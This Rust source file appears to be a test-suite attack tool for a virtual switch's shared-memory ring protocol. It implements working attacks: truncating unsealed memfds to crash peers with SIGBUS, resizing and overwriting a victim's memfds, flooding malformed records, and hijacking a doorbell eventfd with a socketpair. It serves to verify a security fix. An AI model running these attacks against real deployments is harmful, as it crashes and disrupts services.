//! A hostile shortcut peer, for `tests/tests/ring_attack.rs` (issue 10, item 3).
//!
//! ```text
//! ioth-attack-ring SWITCH_DIR VICTIM_MAC VICTIM_IPV4 unsealed|shrink|garbage|bell ID
//! ```
//!
//! Plugs into the switch's native port the way a stack daemon does (asking for shortcuts),
//! with the MAC `02:a7:7a:c0:00:ID` and the address `VICTIM_IPV4` with ID as its last byte,
//! sends the victim a unicast ARP request so that the switch, which knows both MACs by then,
//! offers a shortcut, waits for the victim's half of the shared-memory rings, and attacks:
//! * `unsealed`: hands over rings in memfds that are not sealed, then truncates them and
//!   rings the doorbell (a daemon that maps them dies of SIGBUS on its next look);
//! * `shrink`: hands over well-formed rings so that the victim starts writing its own, then
//!   truncates, grows and writes the victim's memfds it received, and makes the victim answer
//!   (an ARP request over the shortcut);
//! * `garbage`: hands over well-formed rings, rewrites frames after publishing them, then
//!   publishes malformed records (zero lengths) as fast as it can.
//! * `bell`: fills the counter of the victim's doorbell (the eventfd that came with its
//!   half), then hands over well-formed rings with, for our doorbell, one end of a
//!   socketpair instead of an eventfd, and makes the victim answer: whatever the victim
//!   writes into it would reach the other end (a socket another service reads would take
//!   the victim's credentials with it). Reports the bytes that arrived there.
//!
//! The `switch-` modes attack the switch itself through the rings of a native port
//! (`NATIVE_FLAG_RINGS`): the attacker plugs in asking for rings, hands over its half and
//! takes the switch's, then does as above to the switch (VICTIM_MAC and VICTIM_IPV4 only
//! name the ARP requests it sends):
//! * `switch-unsealed`: unsealed memfds, truncated once handed over (the switch must refuse
//!   them and answer with no half);
//! * `switch-shrink`: truncates, grows and writes the switch's memfds;
//! * `switch-garbage`: rewritten frames, then malformed records (the switch must drop the
//!   port).
//!
//! It speaks whichever ring protocol the victim's setup message shows: the current one (two
//! memfds: data and ack, see `common/src/ring.rs`) or the one before the fix (one memfd, read
//! and written by both sides), so that the test also shows what the attacks did to daemons
//! of that version. Prints what it did; exits 0 once the attack ran, 2 if it never got a
//! shortcut.

use ioth_common::port::{Incoming, SwitchPort};
use ioth_common::sys::{self, Fd};
use ioth_common::vde;
use std::fs::File;
use std::io::IoSlice;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::os::unix::fs::FileExt;
use std::path::Path;
use std::time::{Duration, Instant};

const HDR: u64 = 4096;
const RING: u64 = 2 << 20;
const TAIL: u64 = 64;
// The current protocol.
const DATA_MAGIC: &[u8; 8] = b"IOTHRNG2";
const ACK_MAGIC: &[u8; 8] = b"IOTHACK2";
const ACK_BYTES: u64 = 4096;
const ACK_HEAD: u64 = 64;
const ACK_RXW: u64 = 128;
// The protocol before the fix: one memfd per ring, `head` at 128 written by the consumer.
const OLD_MAGIC: u64 = 0x4749_4e52_4854_4f49;
const OLD_HEAD: u64 = 128;

fn die(msg: &str) -> ! {
    eprintln!("ioth-attack-ring: {msg}");
    std::process::exit(1)
}

/// A memfd of `len` bytes; sealable if `sealable`.
fn memfd(len: u64, sealable: bool) -> File {
    let mut flags = libc::MFD_CLOEXEC;
    if sealable {
        flags |= libc::MFD_ALLOW_SEALING;
    }
    // SAFETY: memfd_create with a NUL-terminated name; on success the new descriptor is ours
    // alone, so OwnedFd may take it.
    let f = unsafe {
        let fd = libc::memfd_create(c"attack".as_ptr(), flags);
        if fd < 0 {
            die("memfd_create failed");
        }
        File::from(OwnedFd::from_raw_fd(fd))
    };
    f.set_len(len)
        .unwrap_or_else(|e| die(&format!("ftruncate: {e}")));
    f
}

fn seal(f: &File) {
    let seals = libc::F_SEAL_SHRINK | libc::F_SEAL_GROW | libc::F_SEAL_SEAL;
    sys::fcntl(f.as_raw_fd(), libc::F_ADD_SEALS, seals as libc::c_long)
        .unwrap_or_else(|e| die(&format!("seal: {e}")));
}

fn put(f: &File, off: u64, bytes: &[u8]) {
    let _ = f.write_all_at(bytes, off);
}

fn get_u64(f: &File, off: u64) -> u64 {
    let mut b = [0u8; 8];
    let _ = f.read_exact_at(&mut b, off);
    u64::from_le_bytes(b)
}

/// Our rings, in the victim's protocol: the data memfd we fill, and where the victim
/// writes how far it read (its ack memfd now, our data memfd before the fix).
struct Ours {
    data: File,
    /// Current protocol: our ack memfd (for the victim's ring).
    ack: Option<File>,
}

fn our_rings(new: bool, sealed: bool) -> Ours {
    let data = memfd(HDR + RING, sealed);
    put(
        &data,
        0,
        &if new {
            *DATA_MAGIC
        } else {
            OLD_MAGIC.to_le_bytes()
        },
    );
    put(&data, 8, &RING.to_le_bytes());
    let ack = new.then(|| {
        let a = memfd(ACK_BYTES, sealed);
        put(&a, 0, ACK_MAGIC);
        put(&a, ACK_RXW, &1u64.to_le_bytes());
        a
    });
    if sealed {
        seal(&data);
        if let Some(a) = &ack {
            seal(a);
        }
    }
    Ours { data, ack }
}

fn send_setup(sc: RawFd, ours: &Ours) {
    send_setup_with(sc, ours, None);
}

/// Our half, with `bell` for our doorbell (what a daemon sends: an eventfd).
fn send_setup_with(sc: RawFd, ours: &Ours, bell: Option<RawFd>) {
    let mut fds = vec![ours.data.as_raw_fd()];
    fds.extend(ours.ack.as_ref().map(|a| a.as_raw_fd()));
    fds.extend(bell);
    sys::sendmsg(
        sc,
        &[IoSlice::new(b"SR")],
        &fds,
        libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL,
    )
    .unwrap_or_else(|e| die(&format!("sending rings: {e}")));
}

fn doorbell(sc: RawFd) {
    let _ = sys::send(sc, b"D", libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL);
}

fn arp_request(src: [u8; 6], dst: [u8; 6], sip: [u8; 4], tip: [u8; 4]) -> Vec<u8> {
    let mut f = Vec::with_capacity(60);
    f.extend_from_slice(&dst);
    f.extend_from_slice(&src);
    f.extend_from_slice(&[0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, 1]);
    f.extend_from_slice(&src);
    f.extend_from_slice(&sip);
    f.extend_from_slice(&[0; 6]);
    f.extend_from_slice(&tip);
    f.resize(60, 0);
    f
}

fn parse_mac(s: &str) -> [u8; 6] {
    let v: Vec<u8> = s
        .split(':')
        .map(|x| u8::from_str_radix(x, 16).unwrap_or_else(|_| die("bad MAC")))
        .collect();
    v.try_into().unwrap_or_else(|_| die("bad MAC"))
}

/// Wait up to `ms` for `fd` to be readable.
fn readable(fd: RawFd, ms: u64) -> bool {
    sys::wait_fd(fd, libc::POLLIN, ms as i32).unwrap_or(false)
}

/// Whether the victim shut the shortcut down within `ms` (EOF), draining what it sent.
fn ended(sc: RawFd, ms: u64) -> bool {
    let end = Instant::now() + Duration::from_millis(ms);
    let mut buf = vec![0u8; 70000];
    while Instant::now() < end {
        if !readable(sc, 20) {
            continue;
        }
        match sys::recvmsg(
            sc,
            &mut [std::io::IoSliceMut::new(&mut buf)],
            libc::MSG_DONTWAIT,
        ) {
            Ok(m) if m.len == 0 => return true,
            Ok(_) => {}
            Err(e) if e.is_again() => {}
            Err(_) => return true,
        }
    }
    false
}

fn main() {
    let a: Vec<String> = std::env::args().collect();
    if a.len() != 6 {
        die("usage: ioth-attack-ring SWITCH_DIR VICTIM_MAC VICTIM_IPV4 MODE ID");
    }
    let victim = parse_mac(&a[2]);
    let vip: std::net::Ipv4Addr = a[3].parse().unwrap_or_else(|_| die("bad address"));
    let mode = a[4].as_str();
    let id: u8 = a[5].parse().unwrap_or_else(|_| die("bad id"));
    let me = [0x02, 0xa7, 0x7a, 0xc0, 0x00, id];
    let mut sip = vip.octets();
    sip[3] = id;
    if let Some(m) = mode.strip_prefix("switch-") {
        let arp = arp_request(me, victim, sip, vip.octets());
        attack_switch(&a[1], m, &arp);
        return;
    }

    // Plug in as a stack daemon does (same frame size, so the switch pairs us with it).
    let port = SwitchPort::open_native_flags(
        &Path::new(&a[1]).join("native"),
        "ioth-attack-ring",
        65535,
        vde::NATIVE_FLAG_SHORTCUT,
    )
    .unwrap_or_else(|e| die(&e.to_string()));
    let arp = arp_request(me, victim, sip, vip.octets());
    let _ = port.send(&arp);
    let mut buf = vec![0u8; 70000];
    let end = Instant::now() + Duration::from_secs(5);
    let sc: Fd = loop {
        if Instant::now() > end {
            println!("no shortcut offered");
            std::process::exit(2);
        }
        match port.recv_any(&mut buf) {
            Ok(Incoming::Shortcut(o, fd)) if o.peer == victim => break fd,
            Ok(_) => {}
            Err(e) if e.is_again() => {
                readable(port.data_fd(), 50);
            }
            Err(e) => die(&format!("port: {e}")),
        }
    };
    let sc_raw = sc.raw();
    println!("shortcut offered");

    // The victim's half of the rings: one memfd before the fix, data + ack now.
    let end = Instant::now() + Duration::from_secs(5);
    let theirs: Vec<File> = loop {
        if Instant::now() > end {
            die("the victim sent no rings");
        }
        if !readable(sc_raw, 50) {
            continue;
        }
        let m = match sys::recvmsg(
            sc_raw,
            &mut [std::io::IoSliceMut::new(&mut buf)],
            libc::MSG_DONTWAIT,
        ) {
            Ok(m) => m,
            Err(e) if e.is_again() => continue,
            Err(e) => die(&format!("shortcut: {e}")),
        };
        if m.len == 0 {
            die("the victim ended the shortcut before the attack");
        }
        if &buf[..m.len] == b"SR" && !m.fds.is_empty() {
            break m
                .fds
                .into_iter()
                .map(|f| File::from(OwnedFd::from(f)))
                .collect();
        }
    };
    // Two memfds and, from daemons that take eventfd doorbells, the eventfd.
    let new = theirs.len() >= 2;
    println!(
        "victim speaks the {} ring protocol",
        if new { "current" } else { "old" }
    );

    match mode {
        "unsealed" => {
            let ours = our_rings(new, false);
            send_setup(sc_raw, &ours);
            // Give the victim time to map them, then pull the pages away.
            std::thread::sleep(Duration::from_millis(300));
            let _ = ours.data.set_len(0);
            if let Some(a) = &ours.ack {
                let _ = a.set_len(0);
            }
            doorbell(sc_raw);
            let _ = sys::send(sc_raw, &arp, libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL);
            println!("truncated the rings we handed over");
        }
        "shrink" => {
            let ours = our_rings(new, true);
            send_setup(sc_raw, &ours);
            std::thread::sleep(Duration::from_millis(300));
            for f in theirs.iter().take(2) {
                // (Shrinking last, so that a victim that allows it is left with no pages.)
                let grown = f.set_len(64 << 20).is_ok();
                let written = f.write_at(&[0xff; 64], 0).is_ok();
                let shrunk = f.set_len(0).is_ok();
                println!("victim's memfd: shrunk {shrunk} grown {grown} written {written}");
            }
            // Make the victim write into its ring: an ARP request it answers through the
            // shortcut.
            for _ in 0..3 {
                let _ = sys::send(sc_raw, &arp, libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL);
                std::thread::sleep(Duration::from_millis(50));
            }
        }
        "garbage" => {
            let ours = our_rings(new, true);
            send_setup(sc_raw, &ours);
            std::thread::sleep(Duration::from_millis(200));
            garbage(&ours, sc_raw, &arp);
        }
        "bell" => {
            let Some(bell) = theirs.get(2) else {
                die("the victim sent no doorbell");
            };
            let kind = std::fs::read_link(format!("/proc/self/fd/{}", bell.as_raw_fd()))
                .map(|l| l.to_string_lossy().into_owned())
                .unwrap_or_default();
            println!("victim's doorbell: {kind}");
            // Its counter full: the victim's peer (us) cannot ring any more, nothing else.
            let filled = sys::write(bell.as_raw_fd(), &(u64::MAX - 1).to_ne_bytes()).is_ok();
            println!("filled the victim's doorbell: {filled}");
            let (ours_end, theirs_end) =
                sys::socketpair(libc::AF_UNIX, libc::SOCK_DGRAM | libc::SOCK_CLOEXEC)
                    .unwrap_or_else(|e| die(&format!("socketpair: {e}")));
            let ours = our_rings(new, true);
            send_setup_with(sc_raw, &ours, Some(theirs_end.raw()));
            drop(theirs_end);
            for _ in 0..3 {
                let _ = sys::send(sc_raw, &arp, libc::MSG_DONTWAIT | libc::MSG_NOSIGNAL);
                std::thread::sleep(Duration::from_millis(50));
            }
            let mut got = 0;
            let mut b = [0u8; 64];
            while readable(ours_end.raw(), 200) {
                match sys::recv(ours_end.raw(), &mut b, libc::MSG_DONTWAIT) {
                    Ok(n) => got += n,
                    Err(_) => break,
                }
            }
            println!("our doorbell socket got {got} bytes");
        }
        _ => die("unknown mode"),
    }
    println!("attack done");
    if ended(sc_raw, 1000) {
        println!("the victim ended the shortcut");
    }
}

/// Publish ARP requests and rewrite them after publication, then publish malformed records
/// (zero lengths) as fast as the victim reads them, for about a second.
fn garbage(ours: &Ours, sc: RawFd, arp: &[u8]) {
    // Where the victim says how far it read: its ack memfd (ours now), our data memfd before.
    let head = |f: &Ours| match &f.ack {
        Some(a) => get_u64(a, ACK_HEAD),
        None => get_u64(&f.data, OLD_HEAD),
    };
    let mut tail = 0u64;
    // Frames that change after publication.
    for i in 0..50u64 {
        let rec = (4 + arp.len() as u64 + 7) & !7;
        if tail - head(ours) + rec > RING {
            break;
        }
        let mut r = (arp.len() as u32).to_le_bytes().to_vec();
        r.extend_from_slice(arp);
        put(&ours.data, HDR + tail % RING, &r);
        let at = tail;
        tail += rec;
        put(&ours.data, TAIL, &tail.to_le_bytes());
        doorbell(sc);
        // Rewrite what was just published, a few times.
        for k in 0..20u8 {
            let noise = vec![k.wrapping_mul(37).wrapping_add(i as u8); arp.len() - 14];
            put(&ours.data, HDR + at % RING + 4 + 14, &noise);
        }
    }
    // Zero-length records: 8 bytes each, a batch at a time.
    let zeros = vec![0u8; 64 << 10];
    let end = Instant::now() + Duration::from_secs(1);
    let mut published = 0u64;
    while Instant::now() < end {
        let room = RING - (tail - head(ours));
        let off = tail % RING;
        let n = room.min(zeros.len() as u64).min(RING - off);
        if n < 8 {
            std::thread::yield_now();
            continue;
        }
        put(&ours.data, HDR + off, &zeros[..n as usize]);
        tail += n;
        published += n / 8;
        put(&ours.data, TAIL, &tail.to_le_bytes());
        doorbell(sc);
    }
    println!("published {published} zero-length records");
}

/// The `switch-` modes (see the module documentation).
fn attack_switch(dir: &str, mode: &str, arp: &[u8]) {
    let port = SwitchPort::open_native_flags(
        &Path::new(dir).join("native"),
        "ioth-attack-ring",
        65535,
        vde::NATIVE_FLAG_RINGS,
    )
    .unwrap_or_else(|e| die(&e.to_string()));
    if !port.rings {
        println!("rings not granted");
        std::process::exit(2);
    }
    let p = port.data_fd();
    let ours = our_rings(true, mode != "unsealed");
    send_setup(p, &ours);
    // The switch's half, if it takes ours.
    let mut buf = vec![0u8; 70000];
    let end = Instant::now() + Duration::from_secs(2);
    let mut theirs: Option<[File; 2]> = None;
    while Instant::now() < end && theirs.is_none() {
        match port.recv_any(&mut buf) {
            Ok(Incoming::Rings(d, a)) => {
                theirs = Some([File::from(OwnedFd::from(d)), File::from(OwnedFd::from(a))]);
            }
            Ok(_) => {}
            Err(e) if e.is_again() => {
                readable(p, 50);
            }
            Err(e) => die(&format!("port: {e}")),
        }
    }
    println!(
        "{}",
        if theirs.is_some() {
            "the switch sent its rings"
        } else {
            "no rings from the switch"
        }
    );
    match mode {
        "unsealed" => {
            std::thread::sleep(Duration::from_millis(300));
            let _ = ours.data.set_len(0);
            if let Some(a) = &ours.ack {
                let _ = a.set_len(0);
            }
            doorbell(p);
            let _ = port.send(arp);
            println!("truncated the rings we handed over");
        }
        "shrink" => {
            let Some(theirs) = &theirs else {
                die("nothing to shrink");
            };
            for f in theirs {
                let grown = f.set_len(64 << 20).is_ok();
                let written = f.write_at(&[0xff; 64], 0).is_ok();
                let shrunk = f.set_len(0).is_ok();
                println!("switch's memfd: shrunk {shrunk} grown {grown} written {written}");
            }
            // Frames for the switch to carry (and to answer into its ring).
            for _ in 0..3 {
                let _ = port.send(arp);
                std::thread::sleep(Duration::from_millis(50));
            }
        }
        "garbage" => {
            if theirs.is_none() {
                die("the switch took no rings");
            }
            garbage(&ours, p, arp);
        }
        _ => die("unknown mode"),
    }
    println!("attack done");
    if ended(p, 1000) {
        println!("the switch removed the port");
    }
}
